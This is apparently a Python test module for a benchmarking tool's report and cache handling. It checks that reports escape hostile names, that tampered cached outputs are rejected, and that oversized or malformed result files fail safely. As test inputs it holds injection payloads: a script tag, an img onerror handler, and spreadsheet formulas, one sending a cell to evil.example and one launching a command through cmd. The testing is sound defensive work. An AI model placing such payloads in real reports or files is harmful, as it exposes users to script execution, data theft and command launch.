"""Issue 17, reports and converted outputs: names that inject HTML, spreadsheet formulas,
Markdown or terminal markup into reports (item 6), converted outputs damaged in the cache
(item 7), a huge or deeply nested result file and a FIFO given as one (items 16, 14, 10), and
third-party libraries writing under ``$HOME`` (item 16).

Result files and sources live in the lab's ``scratch/`` (as a user's files would); reports go
to stdout, so the harness' "0 bytes outside the cache" still watches everything else.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import stat
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
#: A real saved result (4 cells) to turn hostile.
RESULT = ROOT / "tests" / "data" / "bench-v0.1-standin-s416.json"

SCRIPT_DEVICE = "<script>alert('device')</script>"
SCRIPT_CPU = '<img src=x onerror="alert(1)">'
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)")
TABLE_BREAKER = "pico|det\n| injected | row |"


def hostile_result(dest: Path, *, device: str = "laptop", cpu: str | None = None,
                   names: tuple[str, ...] = ()) -> Path:  # fmt: skip
    """The saved result with ``device``, the CPU model and cell model names replaced."""
    data = json.loads(RESULT.read_text())
    data = copy.deepcopy(data)
    data["device"] = device
    if cpu is not None:
        data["environment"]["cpu_model"] = cpu
    for cell, name in zip(data["cells"], names, strict=False):
        cell["model"], cell["name"], cell["model_id"] = name, name, None
    dest.write_text(json.dumps(data))
    return dest


def tiny_model(folder: Path) -> Path:
    """A small real ONNX detector-shaped model (one conv) in ``folder``."""
    sys.path.insert(0, str(ROOT / "tests" / "bench"))
    from support.bench_helpers import build_conv_onnx

    folder.mkdir(parents=True, exist_ok=True)
    return Path(build_conv_onnx(folder / "tiny.onnx"))


def register(suite: ModuleType) -> None:
    scenario, Verdict = suite.scenario, suite.Verdict

    # -- item 6: names from result files never become markup, formulas or broken tables ------
    @scenario("HTML in device and CPU names (report merge --report html)", 6, quick=False,
              issue=17)  # fmt: skip
    def html_injection(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device=SCRIPT_DEVICE, cpu=SCRIPT_CPU)
        b = hostile_result(lab.scratch / "b.json", device="phone", names=(SCRIPT_DEVICE,) * 4)
        r = lab.picozoo("report", "merge", str(a), str(b), "--report", "html", timeout=120)
        raw = ("<script", "<img src=x")  # escaped, "onerror=" is only text
        leaked = [s for s in raw if s in r.stdout]
        ok = not leaked and "&lt;script&gt;" in r.stdout and "<table>" in r.stdout
        return Verdict(r, frozenset({0}), ok, f"unescaped in the page: {leaked or 'nothing'}")

    @scenario("HTML in names (report show --format html)", 6, quick=False, issue=17)
    def html_injection_show(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device=SCRIPT_DEVICE, cpu=SCRIPT_CPU,
                           names=(SCRIPT_DEVICE,) * 4)  # fmt: skip
        r = lab.picozoo("report", "show", str(a), "--format", "html", timeout=120)
        leaked = "<script" in r.stdout or "<img src=x" in r.stdout
        return Verdict(r, frozenset({0}), not leaked, f"script in the page: {leaked}")

    @scenario("mathtext in names (report merge --report html, the plot)", 14, quick=False,
              issue=17)  # fmt: skip
    def mathtext_names(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device="$\\frac{$", names=("$x^$",) * 4)
        b = hostile_result(lab.scratch / "b.json", device="$$", names=(r"\$_{",))
        r = lab.picozoo("report", "merge", str(a), str(b), "--report", "html", timeout=120)
        ok = "data:image/png;base64," in r.stdout
        return Verdict(r, frozenset({0}), ok, f"plot embedded: {ok}")

    def formula_cells(text: str) -> list[str]:
        rows = list(csv.reader(io.StringIO(text)))
        cells = [c for row in rows for c in row]
        number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
        return [c for c in cells if c[:1] in "=+-@\t\r" and c and not number.fullmatch(c)]

    @scenario("spreadsheet formulas in model names (report show --format csv)", 6, issue=17)
    def csv_injection(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device="=cmd|'/C calc'!A0", names=FORMULAS)
        r = lab.picozoo("report", "show", str(a), "--format", "csv")
        bad = formula_cells(r.stdout)
        kept = all("'" + f in r.stdout.replace('""', '"') for f in FORMULAS)
        return Verdict(r, frozenset({0}), not bad and kept, f"formula cells: {bad[:3]}")

    @scenario("spreadsheet formulas in names (report merge --report csv)", 6, issue=17)
    def csv_injection_merge(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device="-2+3", names=FORMULAS)
        b = hostile_result(lab.scratch / "b.json", device="@phone")
        r = lab.picozoo("report", "merge", str(a), str(b), "--report", "csv")
        bad = formula_cells(r.stdout)
        return Verdict(r, frozenset({0}), not bad, f"formula cells: {bad[:3]}")

    def table_intact(md: str) -> tuple[bool, str]:
        """Every row of the first Markdown table has as many cells as its header."""
        lines = [ln for ln in md.splitlines() if ln.startswith("|")]
        counts = {len(re.split(r"(?<!\\)\|", ln)) for ln in lines[: 2 + 4]}
        intact = len(counts) == 1 and "| injected | row |" not in md
        return intact, f"cells per row: {sorted(counts)}"

    @scenario("'|' and a line break in names (report show --format md)", 6, issue=17)
    def markdown_breaker(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device=TABLE_BREAKER, names=(TABLE_BREAKER,) * 4)
        r = lab.picozoo("report", "show", str(a), "--format", "md")
        ok, note = table_intact(r.stdout)
        return Verdict(r, frozenset({0}), ok, note)

    @scenario("'|' and a line break in names (report merge --report md)", 6, issue=17)
    def markdown_breaker_merge(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device=TABLE_BREAKER, names=(TABLE_BREAKER,) * 4)
        b = hostile_result(lab.scratch / "b.json", device="x|y\nz")
        r = lab.picozoo("report", "merge", str(a), str(b), "--report", "md")
        ok, note = table_intact(r.stdout)
        return Verdict(r, frozenset({0}), ok, note)

    @scenario("rich markup and escape sequences in names (report show --format table)", 6,
              issue=17)  # fmt: skip
    def terminal_markup(lab: Any) -> Any:
        a = hostile_result(lab.scratch / "a.json", device="[/bold]\x1b]0;owned\x07[link=x]",
                           names=("[/]", "[red]x", "\x1b[2J", "ok"))  # fmt: skip
        r = lab.picozoo("report", "show", str(a), "--format", "table")
        ok = "\x1b" not in r.stdout and "[/bold]" in r.stdout
        return Verdict(r, frozenset({0}), ok, f"shown as text, no escape sequence: {ok}")

    # -- item 7: converted outputs are checked on every use ----------------------------------
    def converted(lab: Any) -> tuple[Path, Any]:
        """Convert a small local ONNX to OpenVINO; (the source folder, the first run)."""
        folder = lab.scratch / "m"
        tiny_model(folder)
        r = lab.picozoo("convert", str(folder / "tiny.onnx"), "--to", "openvino", timeout=180)
        return folder, r

    def zero_tail(path: Path, n: int = 256) -> None:
        os.chmod(path, 0o644)
        data = bytearray(path.read_bytes())
        data[-n:] = bytes(min(n, len(data)))
        path.write_bytes(bytes(data))

    @scenario("converted output with a zeroed tail (convert)", 7, quick=False, issue=17)
    def converted_zeroed(lab: Any) -> Any:
        folder, first = converted(lab)
        outputs = sorted(lab.cache.glob("converted/*/*/model.xml"))
        if first.rc != 0 or not outputs:
            return Verdict(first, frozenset({0}), False, "the first conversion failed")
        xml = outputs[0]
        good = xml.read_bytes()
        zero_tail(xml)
        r = lab.picozoo("convert", str(folder / "tiny.onnx"), "--to", "openvino", timeout=180)
        warned = "converting it again" in r.stderr and str(xml) in r.stderr
        rebuilt = xml.read_bytes() == good
        ok = warned and rebuilt and not (xml.stat().st_mode & 0o222)
        return Verdict(r, frozenset({0}), ok, f"warned: {warned}, rebuilt: {rebuilt}")

    @scenario("converted output damaged: verify (whole cache and local label)", 7, quick=False,
              issue=17)  # fmt: skip
    def converted_verify(lab: Any) -> Any:
        _, first = converted(lab)
        bins = sorted(lab.cache.glob("converted/*/*/model.bin"))
        if first.rc != 0 or not bins:
            return Verdict(first, frozenset({0}), False, "the conversion failed")
        clean = lab.picozoo("verify")
        zero_tail(bins[0])
        label = bins[0].parent.parent.name
        by_label = lab.picozoo("verify", label)
        r = lab.picozoo("verify", "--deep")
        named = str(bins[0]) in r.stdout and str(bins[0]) in by_label.stdout
        ok = clean.rc == 0 and "converted:openvino" in clean.stdout and by_label.rc == 6 and named
        return Verdict(r, frozenset({6}), ok, f"clean ok: {clean.rc == 0}, file named: {named}")

    @scenario("provenance.json naming a file outside its folder", 7, quick=False, issue=17)
    def converted_escape(lab: Any) -> Any:
        folder, first = converted(lab)
        provs = sorted(lab.cache.glob("converted/*/*/provenance.json"))
        if first.rc != 0 or not provs:
            return Verdict(first, frozenset({0}), False, "the conversion failed")
        prov = json.loads(provs[0].read_text())
        prov["output"]["file"] = os.path.relpath(lab.victim, provs[0].parent)
        os.chmod(provs[0], 0o644)
        provs[0].write_text(json.dumps(prov))
        r = lab.picozoo("verify")
        again = lab.picozoo("convert", str(folder / "tiny.onnx"), "--to", "openvino", timeout=180)
        served = str(lab.victim) in again.stdout or "victim" in again.stdout
        ok = again.rc == 0 and not served and "unreadable" in r.stdout
        return Verdict(r, frozenset({6}), ok, f"victim served: {served}, rebuilt: {again.rc == 0}")

    @scenario("converted outputs are read-only", 7, quick=False, issue=17)
    def converted_readonly(lab: Any) -> Any:
        _, r = converted(lab)
        files = [p for p in lab.cache.glob("converted/*/*/*") if p.is_file()]
        writable = [p.name for p in files if p.stat().st_mode & 0o222]
        ok = bool(files) and not writable
        return Verdict(r, frozenset({0}), ok, f"writable: {writable or 'none'}")

    # -- items 16, 14, 10: result files that are huge, deep or not files ---------------------
    @scenario("220 MB bench result JSON", 16, issue=17)
    def huge_result(lab: Any) -> Any:
        big = lab.scratch / "big.json"
        with open(big, "wb") as f:
            f.write(b'{"schema": "picozoo.bench/1", "device": "' + b"x" * (1 << 20))
            f.truncate(220 << 20)  # sparse: 220 MB without writing them
        r = lab.picozoo("report", "show", str(big), "--format", "md")
        ok = r.peak_rss_mb < 200 and r.seconds < 15 and "too large" in r.stderr
        return Verdict(r, frozenset({2}), ok, f"peak RSS {r.peak_rss_mb:.0f} MB")

    @scenario("100k-deep result JSON", 14, issue=17)
    def deep_result(lab: Any) -> Any:
        deep = lab.scratch / "deep.json"
        deep.write_text("[" * 100_000 + "]" * 100_000)
        r = lab.picozoo("report", "merge", str(deep), str(deep), "--report", "md")
        return Verdict(r, frozenset({2}), "deeply" in r.stderr, "")

    @scenario("result file that is a FIFO", 10, issue=17)
    def fifo_result(lab: Any) -> Any:
        fifo = lab.scratch / "r.json"
        os.mkfifo(fifo)
        r = lab.picozoo("report", "show", str(fifo), timeout=20)
        still = stat.S_ISFIFO(os.lstat(fifo).st_mode)
        return Verdict(r, frozenset({2}), still and r.seconds < 15, f"{r.seconds:.1f} s")

    # -- item 16: nothing written under $HOME by the libraries picozoo imports ---------------
    @scenario("matplotlib, Paddle, ONNX Runtime, OpenVINO write nothing under $HOME", 16,
              quick=False, issue=17)  # fmt: skip
    def home_untouched(lab: Any) -> Any:
        home = lab.scratch / "home"
        sys.path.insert(0, str(ROOT / "tests"))
        from support.artifacts import make_inference_dir

        paddle_dir = make_inference_dir(lab.scratch / "pd")
        lab.picozoo("inspect", str(paddle_dir), timeout=180)  # imports paddle
        converted(lab)  # imports openvino and onnxruntime
        a = hostile_result(lab.scratch / "a.json")
        r = lab.picozoo("report", "show", str(a), "--format", "html", timeout=120)  # matplotlib
        written = sorted(str(p.relative_to(home)) for p in home.rglob("*"))
        kept = (lab.cache / ".thirdparty" / "matplotlib").is_dir()
        return Verdict(r, frozenset({0}), not written and kept, f"under $HOME: {written[:4]}")
